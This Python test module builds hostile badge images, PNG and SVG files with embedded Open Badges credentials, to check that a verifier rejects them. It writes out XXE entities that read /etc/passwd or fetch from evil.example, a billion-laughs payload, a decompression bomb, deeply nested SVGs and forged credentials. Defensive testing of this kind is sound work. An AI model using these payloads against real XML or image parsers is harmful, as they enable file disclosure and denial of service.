"""Pictures that carry something else than a good credential, or never end."""

from __future__ import annotations

import json
import struct
import zlib
from collections.abc import Iterator

from tests.hostile.corpus import Family, Parts
from tests.hostile.forge import ISSUER, changed, header, payload, signed, token

_UNREADABLE = "data_model PARSING_ERROR"
_WRONG = "proof PROOF_VERIFICATION_ERROR"
_SIGNATURE = b"\x89PNG\r\n\x1a\n"
_KEYWORD = b"openbadgecredential"
_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'


def families() -> Iterator[Family]:
    family = Family(
        "images",
        "Pictures that mislead, or never end",
        "Open Badges 3.0 §5.3; PNG, Third Edition",
        {"trusted": [ISSUER.did]},
    )
    good, forged = json.dumps(signed()), json.dumps(changed(signed(), "name", "Doctor"))
    jwt = token(header(), payload())
    _pngs(family, good, forged)
    family.good("control-svg", "a picture in SVG with a good credential", _svg(_element(good)))
    family.good("svg-jwt", "the same with a JWT", _svg(f'<openbadges:credential verify="{jwt}"/>'))
    family.good("svg-two", "of two credentials, the first counts", _svg(_element(good) + _element(forged)))
    for name, why, given, code in (
        ("svg-forged", "a forged credential", _svg(_element(forged)), _WRONG),
        ("svg-two-swapped", "of two credentials, the first is forged", _svg(_element(forged) + _element(good)), _WRONG),
        (
            "svg-verify-forged",
            "a forged JWT, beside a good credential",
            _svg(_element(good, f'verify="{jwt[:-4]}AAAA"')),
            _WRONG,
        ),
        ("svg-none", "no credential", _svg("<circle/>"), _UNREADABLE),
        (
            "svg-namespace",
            "a credential of another namespace",
            _svg(_element(good)).replace("ob/v3p0", "ob/v9p0"),
            _UNREADABLE,
        ),
        ("svg-comment", "a credential in a comment", _svg(f"<!-- {_element(good)} -->"), _UNREADABLE),
        (
            "svg-entity",
            "an entity that is declared",
            f"<!DOCTYPE svg [<!ENTITY a 'x'>]>{_svg(_element(good) + '&a;')}",
            _UNREADABLE,
        ),
        (
            "svg-external",
            "an entity from a file",
            f"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>{_svg('<openbadges:credential>&a;</openbadges:credential>')}",
            _UNREADABLE,
        ),
        (
            "svg-external-url",
            "an entity from the network",
            f"<!DOCTYPE svg [<!ENTITY % a SYSTEM 'https://evil.example/x'> %a;]>{_svg(_element(good))}",
            _UNREADABLE,
        ),
        (
            "svg-undeclared",
            "an entity that nobody declared",
            _svg("<openbadges:credential>&lol;</openbadges:credential>"),
            _UNREADABLE,
        ),
        ("svg-laughs", "entities of entities: a billion laughs", _laughs(), _UNREADABLE),
        ("svg-cut", "the end is missing", _svg(_element(good))[:-6], _UNREADABLE),
        ("svg-two-roots", "two pictures", _svg(_element(good)) * 2, _UNREADABLE),
        ("svg-html", "a web page with the picture in it", f"<html>{_svg(_element(good))}</html>", _UNREADABLE),
        (
            "svg-attribute-twice",
            "two JWTs in one element",
            _svg(f'<openbadges:credential verify="{jwt}" verify="x"/>'),
            _UNREADABLE,
        ),
        (
            "svg-old",
            "an assertion of Open Badges 2.0",
            _svg('<o:assertion xmlns:o="http://openbadges.org" verify="x"/>'),
            _UNREADABLE,
        ),
        (
            "svg-encoding",
            "an encoding that nobody knows",
            f"<?xml version='1.0' encoding='x-none'?>{_svg(_element(good))}",
            _UNREADABLE,
        ),
    ):
        family.bad(name, why, given, code, control="control-svg")
    deep = Parts([_OPEN, ["<g>", 100_000], ["</g>", 100_000], "</svg>"])
    family.bad("svg-deep", "elements in elements, without end", deep, _UNREADABLE, control="control-svg")
    many = Parts([_OPEN, ["<openbadges:credential/>", 50_000], "</svg>"])
    family.bad("svg-many", "fifty thousand credentials", many, _UNREADABLE, control="control-svg")
    wide = Parts([_OPEN[:-1], [" a", 50_000], "></svg>"])
    family.bad("svg-attributes", "attributes without end", wide, _UNREADABLE, control="control-svg")
    yield family


def _svg(inside: str) -> str:
    return f"{_OPEN}{inside}</svg>"


def _element(text: str, attributes: str = "") -> str:
    return f"<openbadges:credential {attributes}><![CDATA[{text}]]></openbadges:credential>"


def _laughs() -> str:
    entities = "".join(f"<!ENTITY l{i} '{f'&l{i - 1};' * 10 if i else 'lol'}'>" for i in range(10))
    return f"<!DOCTYPE svg [{entities}]>{_svg('<openbadges:credential>&l9;</openbadges:credential>')}"


def _chunk(kind: bytes, data: bytes, *, crc: int = 0) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) ^ crc)


_HEADER = _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
# One black point, stored without compression.
_PIXELS = _chunk(b"IDAT", b"\x78\x01\x01\x02\x00\xfd\xff\x00\x00\x00\x02\x00\x01")
_END = _chunk(b"IEND", b"")


def _png(*chunks: bytes) -> bytes:
    return b"".join([_SIGNATURE, _HEADER, *chunks, _PIXELS, _END])


def _text(
    text: str, *, flags: bytes = b"\0\0", kind: bytes = b"iTXt", keyword: bytes = _KEYWORD, crc: int = 0
) -> bytes:
    return _chunk(kind, keyword + b"\0" + (flags + b"\0\0" if kind == b"iTXt" else b"") + text.encode(), crc=crc)


def _pngs(family: Family, good: str, forged: str) -> None:
    family.good("control", "a picture in PNG with a good credential", _png(_text(good)))
    family.good("two", "of two credentials, the first counts", _png(_text(good), _text(forged)))
    whole = _png(_text(good))
    stored = b"\x78\x01\x01" + struct.pack("<HH", len(good), len(good) ^ 0xFFFF) + good.encode()
    packed = stored + struct.pack(">I", zlib.adler32(good.encode()))
    compressed = _chunk(b"iTXt", _KEYWORD + b"\0\x01\0\0\0" + packed)
    family.good("compressed", "a compressed one, which should not be", _png(compressed))
    bomb = b"\x78\xda" + _deflated_zeros(8 << 20)
    for name, why, given, code in (
        ("forged", "a forged credential", _png(_text(forged)), _WRONG),
        ("two-swapped", "of two credentials, the first is forged", _png(_text(forged), _text(good)), _WRONG),
        ("none", "no credential", _png(), _UNREADABLE),
        ("other-keyword", "a text of another name", _png(_text(good, keyword=b"comment")), _UNREADABLE),
        ("keyword-case", "a name in other letters", _png(_text(good, keyword=b"OpenBadgeCredential")), _UNREADABLE),
        ("old", "an assertion of Open Badges 2.0", _png(_text(good, keyword=b"openbadges")), _UNREADABLE),
        ("empty", "an empty credential", _png(_text("")), _UNREADABLE),
        (
            "not-utf-8",
            "letters that are no UTF-8",
            _png(_chunk(b"iTXt", _KEYWORD + b"\0\0\0\0\0\xff\xfe{}")),
            _UNREADABLE,
        ),
        (
            "short-text",
            "a text that is not laid out as it should be",
            _png(_chunk(b"iTXt", _KEYWORD + b"\0\0")),
            _UNREADABLE,
        ),
        ("checksum", "a wrong checksum", _png(_text(good, crc=1)), _UNREADABLE),
        ("cut", "the end is missing", whole[:-8], _UNREADABLE),
        ("signature-only", "eight bytes of a PNG", _SIGNATURE, _UNREADABLE),
        ("length", "a length that lies", _SIGNATURE + _HEADER + b"\xff\xff\xff\xffiTXt" + good.encode(), _UNREADABLE),
        ("behind-end", "a credential behind the end", _png() + _text(good), _UNREADABLE),
        (
            "before-header",
            "a credential in front of the header",
            _SIGNATURE + _text(good) + _HEADER + _PIXELS + _END,
            _UNREADABLE,
        ),
        (
            "compressed-cut",
            "a compressed one that is cut off",
            _png(_chunk(b"iTXt", _KEYWORD + b"\0\x01\0\0\0" + packed[:-20])),
            _UNREADABLE,
        ),
        (
            "compressed-other",
            "compressed in a way that nobody knows",
            _png(_chunk(b"iTXt", _KEYWORD + b"\0\x01\x07\0\0" + packed)),
            _UNREADABLE,
        ),
        ("bomb", "8 kB that unpack to 8 MB", _png(_chunk(b"iTXt", _KEYWORD + b"\0\x01\0\0\0" + bomb)), _UNREADABLE),
        ("many-texts", "texts without end", _png(*[_text("", keyword=b"a")] * 300), _UNREADABLE),
        ("jpeg", "a photograph", b"\xff\xd8\xff\xe0\x00\x10JFIF", _UNREADABLE),
        ("gif", "a picture of another kind", b"GIF89a\x01\x00\x01\x00", _UNREADABLE),
    ):
        family.bad(name, why, given, code)


def _deflated_zeros(length: int) -> bytes:
    from tests.hostile.forge import gzipped_zeros

    return gzipped_zeros(length)[10:-8] + b"\0\0\0\0"
